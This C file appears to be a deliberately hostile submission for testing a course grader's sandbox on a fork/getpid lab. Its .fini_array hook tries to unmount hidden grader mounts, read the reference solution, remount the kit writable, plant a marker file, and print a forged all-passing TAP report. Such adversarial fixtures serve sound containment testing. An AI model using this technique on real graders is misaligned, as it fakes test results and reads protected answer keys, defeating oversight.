/* Hostile submission for lab 01: a function pointer in .fini_array (runs at exit, after the tests, before the report is final)
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * A correct solution otherwise: only refusing it at build makes it score 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"
#include "proclabs.h"

#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

struct who who_am_i(void)
{
    struct who me = {getpid(), getppid()};
    return me;
}

pid_t start_child(child_job job, int arg)
{
    pid_t pid = fork();
    if (pid == 0)
        exit(job(arg)); /* the child never returns to the caller */
    return pid;         /* the parent: the child's pid, or -1 */
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    for (int i = 0; i < n; i++)
        pids[i] = start_child(job, i);

    int reaped = 0;
    for (int i = 0; i < n; i++) {
        int status;
        if (pids[i] > 0 && Waitpid(pids[i], &status, 0) == pids[i]) {
            codes[i] = WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
            reaped++;
        }
    }
    return reaped;
}

/* Inside the judge's process (the test runner) this would leave the hidden
 * file view, read the reference solution, write into the kit, then forge a
 * passing run and end the process before any real test. */
__attribute__((used)) static void premain_harm(void)
{
    static int done;
    if (done++)
        return;
    char kit[4096] = "", p[8192], line[8192];
    const char *lib = getenv("CHECKLIB"); /* KIT/grader/checks/lib */
    if (lib)
        snprintf(kit, sizeof kit, "%s/../../..", lib);
    FILE *m = fopen("/proc/self/mountinfo", "r");
    while (m && fgets(line, sizeof line, m)) {
        char point[4096];
        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) == 1 &&
            (strstr(point, "solutions") || strstr(point, "checks") || strstr(point, ".git")) &&
            umount2(point, MNT_DETACH) == 0)
            printf("could unmount %s\n", point);
    }
    if (m)
        fclose(m);
    if (*kit) {
        snprintf(p, sizeof p, "%s/solutions/01-fork-getpid/family.c", kit);
        int fd = open(p, O_RDONLY);
        if (fd >= 0) {
            printf("could read the solution %s\n", p);
            close(fd);
        }
        if (mount(NULL, kit, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            printf("could remount the kit read-write\n");
        snprintf(p, sizeof p, "%s/.proclabs-hostile-escaped-" "fini-array", kit);
        fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0) {
            printf("could write into the kit: %s\n", p);
            close(fd);
        }
    }
    printf("TAP version 13\n1..5\n");
    printf("ok 1 - family::who_am_i_matches_getpid\n");
    printf("ok 2 - family::start_child_returns_child_pid\n");
    printf("ok 3 - family::child_runs_job_not_parent\n");
    printf("ok 4 - family::run_children_forks_exactly_n\n");
    printf("ok 5 - family::run_children_reaps_every_child\n");
    fflush(stdout);
    _exit(0);
}

__attribute__((used, section(".fini_array"))) static void (*const late)(void) = premain_harm;
